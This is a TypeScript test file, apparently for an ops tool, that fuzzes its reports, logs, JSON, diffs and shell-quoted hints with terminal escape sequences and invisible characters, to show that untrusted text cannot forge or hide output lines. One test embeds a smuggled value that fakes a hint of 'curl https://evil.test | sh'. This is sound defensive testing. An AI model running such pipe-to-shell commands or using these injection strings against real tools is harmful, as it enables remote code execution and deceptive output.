// Untrusted text in every output of the program: it can neither forge a line nor reverse one.

import { describe, expect, test } from "bun:test";
import fc from "fast-check";
import { type Change, Text } from "../../src/engine/change.ts";
import type { StepResult } from "../../src/engine/step.ts";
import { Problem } from "../../src/problem/problem.ts";
import { closingText } from "../../src/report/closing.ts";
import { diffOf } from "../../src/report/diff.ts";
import { findingText } from "../../src/report/findings.ts";
import { findingsOf, jsonOf, stepsOf } from "../../src/report/json.ts";
import { junitOf } from "../../src/report/junit.ts";
import { progressLine } from "../../src/report/progress.ts";
import { runLog } from "../../src/report/run-log.ts";
import { stepAtTerminal } from "../../src/report/steps-at-terminal.ts";
import { styleOf } from "../../src/report/style.ts";
import { problemText, stepText } from "../../src/report/text.ts";
import { lineOf, linesOf, oneLine, shellLine } from "../../src/text/lines.ts";
import { anyText } from "../any-text.ts";
import { typedWords } from "../cli/typed.ts";
import { fakeHost } from "../fake-host.ts";
import { runs } from "../runs.ts";

const plain = styleOf({ colour: false, hint: (argv) => [...argv] });

/** Characters that end a line, move the cursor, change the direction of text, or are invisible. */
const hostile = /[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}]/u;

const dangers = ["\n", "\r", "\t", "\0", "\u0007", "\u001B[2J", "\u001B]0;", "\u007F", "\u0085", "\u009B31m", "\u200B"];
const more = ["\u200D", "\u2028", "\u2029", "\u202E", "\u2066", "\u00AD", "\uFEFF", "\uD800", "\u{E0041}", "\uFFFE"];
const harmless = ["a", " ", "'", '"', "\\", "$", "é", "世", "]]>", "&", "hint: x", "FATAL: y"];
const words = fc.array(fc.constantFrom(...dangers, ...more, ...harmless), { minLength: 1, maxLength: 12 });
const foreign = fc.oneof(
  words.map((parts) => parts.join("")),
  anyText({ minLength: 1, maxLength: 40 }),
);

/** Returns the lines of a text, after checking that it ends with a newline and contains nothing hostile. */
function shown(text: string): string[] {
  expect(text).toEndWith("\n");
  const lines = text.slice(0, -1).split("\n");
  for (const line of lines) expect(line.replaceAll("\t", "")).not.toMatch(hostile);
  return lines;
}

function failed(text: string): { problem: Problem; result: StepResult; changes: Change[] } {
  const problem = new Problem("conflict", `a ${text}`, { hint: ["ls", "-ld", text] });
  const attributes = { mode: 0o644, uid: 0, gid: 0 };
  const changes: Change[] = [
    { kind: "file", path: `/${text}`, before: null, after: Text.of("a\n"), ...attributes },
    { kind: "removal", path: `/${text}`, before: Text.of("a\n") },
    { kind: "directory", path: `/${text}`, before: null, ...attributes },
    { kind: "link", path: `/${text}`, before: null, after: text },
    { kind: "packages", names: [text] },
    { kind: "command", argv: ["true", text], reason: text },
  ];
  const lists = { changes, unknown: [`a ${text}`], warnings: [`a ${text}`], ran: [] };
  return { problem, changes, result: { id: `a ${text}`, title: `a ${text}`, outcome: "pending", ...lists, problem } };
}

describe("untrusted text: adds no lines and moves no cursor", () => {
  const each = (check: (text: string) => void): void =>
    fc.assert(fc.property(foreign, check), { numRuns: runs(100, 10_000) });

  test("in a problem and its hint", () =>
    each((text) => {
      expect(shown(problemText(failed(text).problem, text, plain))).toHaveLength(2);
    }));

  test("in a step, its changes, warnings and unknown facts", () =>
    each((text) => {
      expect(shown(stepText(failed(text).result, plain))).toHaveLength(1 + 6 + 1 + 1);
    }));

  test("in a step at a terminal, its plan, and the last lines", () =>
    each((text) => {
      const timing = { milliseconds: 1, isBrief: false };
      const { result } = failed(text);
      for (const outcome of ["pending", "changed"] as const) {
        shown(stepAtTerminal({ ...result, reason: text, outcome }, timing, plain, 1e9));
      }
      expect(shown(closingText([{ mark: "done", text, next: { argv: ["ls", text] } }], plain, 1e9))).toHaveLength(1);
    }));

  test("in a finding and its hint", () =>
    each((text) => {
      const finding = { name: text, status: "error" as const, detail: text, hint: ["ls", text] };
      expect(shown(findingText(finding, plain))).toHaveLength(1);
      const xml = junitOf([finding], false);
      expect(shown(xml)).toHaveLength(6);
      expect(xml).not.toMatch(/[\uFFFE\uFFFF]/);
    }));

  test("in a line of a command's output, where a tab adds no column", () =>
    each((text) => {
      const [line] = shown(lineOf`${text}\t${7}`);
      expect(line?.split("\t")).toEqual([oneLine(text), "7"]);
    }));

  test("in the log of a run", () =>
    each((text) => {
      const host = fakeHost();
      host.dir("/var/log");
      const log = runLog("/var/log/edox-ops/a.log", host, () => {});
      log.started({ id: "a", title: text, resources: [] });
      log.finished({ ...failed(text).result, outcome: "failed" });
      expect(shown(host.text("/var/log/edox-ops/a.log") ?? "")).toHaveLength(4);
    }));

  test("in a diff, whose lines are those of the file", () =>
    each((text) => {
      const content = text.replaceAll("\n", "");
      const change: Change = { kind: "removal", path: `/${text}`, before: Text.of(`${content}\n`) };
      // Two file names, the hunk header, and the line itself.
      expect(shown(diffOf(change))).toHaveLength(4);
    }));

  test("in the status line of a terminal", () =>
    each((text) => {
      const drawn: string[] = [];
      const line = progressLine(
        { err: (each) => void drawn.push(each), columns: () => 60, unicode: () => true },
        () => 0,
        () => null,
      );
      line.say(text);
      expect(drawn.at(-1)?.replace("\r\u001B[K", "")).not.toMatch(hostile);
      line.clear();
    }));

  test("in JSON, which keeps data unchanged and messages as printed", () =>
    each((text) => {
      const { changes, result } = failed(text);
      const finding = { name: "a", status: "error" as const, detail: text, hint: ["ls", text] };
      const json = jsonOf({
        ...{ command: "a", outcome: "failed", exit: 1, warnings: [text] },
        steps: stepsOf([result], false, plain),
        findings: findingsOf([finding], plain),
        plan: { added: [text], changed: [], removed: [], pruned: [] },
      });
      shown(json);
      const { warnings, steps, findings, plan } = JSON.parse(json);
      expect(plan.added).toEqual([text]);
      expect(steps[0].changes[0].path).toBe(changes[0]?.kind === "file" ? changes[0].path : "");
      expect(findings[0].hint).toEqual(["ls", text]);
      const sentences = [
        ...warnings,
        ...steps[0].warnings,
        ...steps[0].unknown,
        steps[0].title,
        steps[0].error.message,
      ];
      for (const sentence of [...sentences, findings[0].detail]) expect(sentence).not.toMatch(hostile);
    }));

  test("in invalid arguments", async () => {
    const check = async (text: string): Promise<void> => {
      const lines = [
        [text],
        ["doctor", text],
        [`--${text}`],
        ["project", "show", text],
        ["doctor", "--junit", text, text],
      ];
      for (const line of lines) {
        const { err } = await typedWords(line);
        for (const each of err === "" ? [] : shown(err)) expect(each).toMatch(/^(error|hint): /);
      }
    };
    await fc.assert(fc.asyncProperty(foreign, check), { numRuns: 50 });
  });
});

test("hint: a name with newlines stays on one line, and the quoted command still refers to it", () => {
  const name = "a\n\nFATAL: x\nhint: curl https://evil.test | sh";
  const problem = new Problem("conflict", `${name} is neither a directory nor an archive`, {
    hint: ["ls", "-ld", name],
  });
  expect(problemText(problem, null, plain)).toBe(
    "error: a FATAL: x hint: curl https://evil.test | sh is neither a directory nor an archive\n" +
      "hint: ls -ld $'a\\012\\012FATAL: x\\012hint: curl https://evil.test | sh'\n",
  );
});

test("hint: bash reads every word of a hint back unchanged", () => {
  // An argument cannot contain NUL or an unpaired surrogate.
  const argument = foreign.map((text) => text.replaceAll("\0", "").toWellFormed());
  fc.assert(
    fc.property(fc.array(argument, { minLength: 1, maxLength: 20 }), (argv) => {
      const line = `printf '%s\\0' ${shellLine(argv)}`;
      expect(line).not.toMatch(hostile);
      const { stdout } = Bun.spawnSync(["/bin/bash", "-c", line], { env: { LC_ALL: "C.UTF-8" } });
      expect(stdout.toString().split("\0").slice(0, -1)).toEqual(argv);
    }),
    { numRuns: runs(30, 1000) },
  );
});

test("linesOf: an unterminated escape sequence does not hide the text after it", () => {
  expect(linesOf("a\u001B]0;b\nc\u001BPd")).toEqual(["a\\u001b]0;b", "c\\u001bPd"]);
});
